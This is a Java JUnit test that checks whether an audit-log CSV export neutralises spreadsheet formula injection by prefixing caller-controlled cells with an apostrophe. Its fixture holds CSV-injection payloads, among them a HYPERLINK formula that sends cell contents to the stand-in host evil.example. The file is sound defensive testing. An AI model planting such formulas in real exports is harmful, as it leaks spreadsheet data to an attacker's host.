package io.customerdata.gateway.audit;

import java.util.List;
import java.util.UUID;

import org.h2.jdbcx.JdbcDataSource;
import org.flywaydb.core.Flyway;
import org.junit.jupiter.api.Test;

import org.springframework.jdbc.datasource.DataSourceTransactionManager;
import org.springframework.test.web.reactive.server.WebTestClient;
import org.springframework.transaction.support.TransactionTemplate;

import static io.customerdata.gateway.audit.AuditTrailTests.JSON;
import static org.assertj.core.api.Assertions.assertThat;
import static org.mockito.Mockito.mock;

/**
 * The officers' audit export as CSV: a value a caller or an identity provider chose (a
 * subject named like a formula, a client id, a reference) arrives as text, never as a
 * formula a spreadsheet evaluates.
 */
class AuditCsvExportTests {

	@Test
	void noCellOfTheAuditExportIsALiveFormula() {
		JdbcDataSource h2 = new JdbcDataSource();
		h2.setURL("jdbc:h2:mem:audit-csv-" + UUID.randomUUID()
				+ ";MODE=PostgreSQL;DATABASE_TO_LOWER=TRUE;DEFAULT_NULL_ORDERING=HIGH;DB_CLOSE_DELAY=-1");
		Flyway.configure().dataSource(h2).load().migrate();
		AuditRepository repository = new AuditRepository(h2,
				new TransactionTemplate(new DataSourceTransactionManager(h2)));
		AuditEvent event = AuditEvent.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "view")
			.caller("id", List.of("sales-rep"), "@SUM(1+1)")
			.purpose("account-management")
			.records(List.of("crm:ACC-1"))
			.decision(AuditEvent.DENY, "-2+3", null, "+cmd")
			.build(403);
		repository.insert(List.of(new AuditRepository.Stored(event, JSON.writeValueAsString(event))));
		WebTestClient client = WebTestClient
			.bindToController(new AuditController(new AuditSearch(h2), mock(CustomerRecords.class), JSON))
			.build();

		String csv = client.get()
			.uri("/admin/audit/export?format=csv")
			.exchange()
			.expectStatus()
			.isOk()
			.expectBody(String.class)
			.returnResult()
			.getResponseBody();

		assertThat(csv).contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"")
			.contains("'@SUM(1+1)")
			.contains("'-2+3")
			.contains("'+cmd");
		assertThat(csv.lines().skip(1).flatMap((line) -> List.of(line.split(",")).stream()))
			.noneMatch((cell) -> cell.matches("\"?[=+\\-@\\t\\r].*"));
	}

}
